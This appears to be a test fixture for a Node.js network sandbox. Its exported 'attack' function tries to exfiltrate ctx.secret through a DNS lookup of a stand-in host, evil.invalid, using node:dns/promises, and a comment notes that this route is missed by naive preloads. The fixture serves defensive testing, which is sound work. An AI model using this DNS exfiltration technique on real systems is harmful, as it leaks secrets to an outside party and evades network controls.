// dns/promises lookup (missed by naive preloads).
import { lookup } from 'node:dns/promises';
export const meta = { kind: 'dns', evidence: 'attempted' };
export default async function attack(ctx) {
  try {
    await lookup(`${ctx.secret}.evil.invalid`);
  } catch (error) {
    if (error.code === 'ERR_LEASH_DENIED') throw error;
  }
  return 'queried';
}
